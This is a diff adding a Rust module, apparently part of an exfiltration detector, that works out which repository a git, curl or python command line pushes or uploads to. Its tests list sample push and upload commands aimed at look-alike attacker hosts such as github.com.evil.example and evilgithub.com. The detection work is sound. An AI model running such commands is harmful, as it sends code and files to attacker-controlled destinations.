@@ -1,0 +1,65 @@
+//! The repository that a command line speaks to: the address that its program takes for its target, not one that only
+//! stands in an option, a header or a message.
+
+use super::git::git_line;
+use super::program::Program;
+use super::senders::curl_urls;
+use crate::model::repository::{Address, OwnHosts};
+
+/// The repository that a process speaks to, as its command line says it; `None` where that names none.
+#[must_use]
+pub fn spoken_to(image: Option<&str>, line: &str, own: &OwnHosts) -> Option<Address> {
+    let said = match image.and_then(Program::of) {
+        Some(Program::Git) => git_line(line).url.and_then(|url| Address::of_remote(&url.text, own)),
+        Some(Program::Curl) => curl_urls(line).find_map(|url| Address::in_text(&url.text, own)),
+        _ => None,
+    };
+    said.or_else(|| Address::in_text(line, own))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn target_is_told_from_what_an_option_says() {
+        let git = Some(r"C:\Git\cmd\git.exe");
+        let curl = Some(r"C:\Windows\System32\curl.exe");
+        let python = Some(r"C:\python.exe");
+        for (image, line, expected) in [
+            (
+                git,
+                "git push https://github.com.evil.example/loot/box",
+                Some("github.com.evil.example/loot/box"),
+            ),
+            (git, "git push https://evilgithub.com/loot/box", Some("evilgithub.com/loot/box")),
+            (git, "git push git@ssh.dev.azure.com:v3/acme/app/code", Some("dev.azure.com/acme/app/code")),
+            (git, "git push -o https://github.com/good/x https://h.example/o/r", Some("h.example/o/r")),
+            (git, "git -c remote.x.url=https://github.com/loot/box push x", Some("github.com/loot/box")),
+            (git, r"git -C C:\go\src\github.com\o\r push origin", None),
+            (git, "git -c user.email=me@github.com push origin", None),
+            (git, "git push github.com", Some("github.com")),
+            (
+                curl,
+                "curl -e https://github.com/good/x -T a https://api.github.com/gists",
+                Some("api.github.com/gists"),
+            ),
+            (
+                curl,
+                "curl -H \"Referer: https://github.com/good/x\" -T a https://uploads.github.com.evil.example/x",
+                Some("uploads.github.com.evil.example"),
+            ),
+            (curl, "curl -d @x --url https://api.github.com/repos/o/r/contents/x", Some("github.com/o/r")),
+            (
+                python,
+                "python -c \"put('https://api.github.com/repos/o/r/contents/x')\"",
+                Some("github.com/o/r"),
+            ),
+            (None, "https://github.com/o/r", Some("github.com/o/r")),
+            (python, "python x.py", None),
+        ] {
+            let found = spoken_to(image, line, &OwnHosts::default()).map(|address| address.to_string());
+            assert_eq!(found.as_deref(), expected, "{line}");
+        }
+    }
+}
